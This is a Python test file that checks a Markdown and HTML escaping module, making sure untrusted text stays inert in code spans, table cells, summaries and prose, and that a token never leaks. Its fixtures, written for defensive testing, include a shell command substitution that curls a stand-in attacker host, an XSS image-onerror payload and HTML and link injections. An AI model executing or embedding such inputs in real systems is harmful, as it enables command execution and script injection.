"""Foreign text in Markdown: it is read as it is, and does nothing else."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import TypeVar

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from realtimekit_provider.cli.report.escape import (
    escape_prose,
    make_visible,
    to_code_span,
    to_html_code,
)
from tests.cli.report.rendered_page import render_page

Test = TypeVar("Test", bound=Callable[..., None])

HOSTILE = (
    "$(curl https://evil.example/x)",
    "<img src=x onerror=alert(1)>",
    "a | b `c` ``d",
    "--> @everyone #1 GH-1 www.evil.example a@evil.example",
    "![](https://evil.example/x.png)",
    "](https://evil.example)",
    "</code></summary></details><h1>",
    "**bold** _it_ ~~no~~ $x$ [^1]: &copy;",
    "```\n# heading\n```",
    "two\nlines\r\n\n- item",
    "\\`\\|",
)
INVISIBLE = (
    "\x00\u200b\ufeff\u202e\u2066\u2028\u2029\ud800\ue000\ufffe\u034f\u115f\u1160\u2800\u3164\uffa0"
)
TEXT = st.one_of(
    st.text(alphabet="`|\\<>&*_[]()!#@$~-+=:/.\n wGgh1a\u202e\u200b", max_size=40),
    st.text(max_size=40),
)


def squeeze(text: str) -> str:
    """Return a text whose runs of spaces are one space each, as a browser shows them."""
    return re.sub(" +", " ", text).strip()


def with_examples(test: Test) -> Test:
    """Try each hostile text first."""
    for text in HOSTILE:
        test = example(text)(test)
    return test


@with_examples
@given(TEXT)
def test_a_code_span_shows_its_text(text: str) -> None:
    """One element, and the text in it."""
    page = render_page(f"x {to_code_span(text)} y")
    assert page.elements == ["p", "code"]
    assert squeeze(page.code[0]) == squeeze(make_visible(text))
    assert squeeze(page.prose) == "x y"


@with_examples
@given(TEXT)
def test_a_cell_holds_its_text(text: str) -> None:
    """No bar and no line break ends it."""
    page = render_page(f"|a|b|\n|---|---|\n|{to_code_span(text, in_table=True)}|c|\n")
    assert page.elements.count("td") == 2
    assert page.elements.count("code") == 1
    assert squeeze(page.prose.replace("\n", " ")) == "a b c"


def test_a_backslash_before_a_bar_does_not_free_it() -> None:
    """GitHub reads two backslashes as one, and the bar behind them ends the cell."""
    assert to_code_span("a\\|b", in_table=True) == "`a\\ \\|b`"


@with_examples
@given(TEXT)
def test_a_summary_holds_its_text(text: str) -> None:
    """HTML is not Markdown: quoted by its own rules."""
    page = render_page(f"<details>\n<summary>{to_html_code(text)}</summary>\n\nx\n\n</details>\n")
    assert page.elements == ["details", "summary", "code", "p"]
    assert page.code[0] == make_visible(text).strip()


@with_examples
@given(TEXT)
def test_prose_is_text_alone(text: str) -> None:
    """Beside a line of ours no element, but the span that keeps a dollar from being a formula."""
    page = render_page(f"- x {escape_prose(text)}")
    assert set(page.elements) <= {"ul", "li", "span"}
    shown = page.prose.replace("\u200b", "")
    assert squeeze(shown.replace("\n", " ")) == squeeze(f"x {make_visible(text)}")


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("by @everyone", r"@\w"),
        ("see #1 and acme/app#2", r"#\d"),
        ("see GH-12", r"GH-\d"),
        ("https://evil.example", r"://"),
        ("www.evil.example", r"www\."),
        ("a@evil.example", r"@\w"),
    ],
)
def test_prose_holds_no_mention_reference_or_link(text: str, link: str) -> None:
    """GitHub looks for them in the text that it shows, also where Markdown sees none."""
    assert re.search(link, text)
    assert not re.search(link, render_page(f"x {escape_prose(text)}").prose)


def test_prose_holds_no_formula() -> None:
    """GitHub looks for dollars in its text, and not across an element."""
    assert escape_prose("$x$") == "<span>$</span>x<span>$</span>"


@pytest.mark.parametrize("character", [*INVISIBLE])
def test_an_invisible_character_is_its_number(character: str) -> None:
    """What turns the direction of a text, has no width or ends a line, and letters like blanks."""
    assert make_visible(f"a{character}b") == f"a\\u{ord(character):04x}b"


def test_an_invisible_character_beyond_the_first_plane_is_its_number() -> None:
    """Tags, for one, in which a whole text can be hidden."""
    assert make_visible("a\U000e0041b") == "a\\U000e0041b"


def test_no_form_shows_a_credential(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever brings it there."""
    monkeypatch.setenv("SOME_TOKEN", "CANARY-token")
    text = "it is CANARY-token"
    shown = [to_code_span(text), to_html_code(text), escape_prose(text)]
    assert not any("CANARY" in one for one in shown)
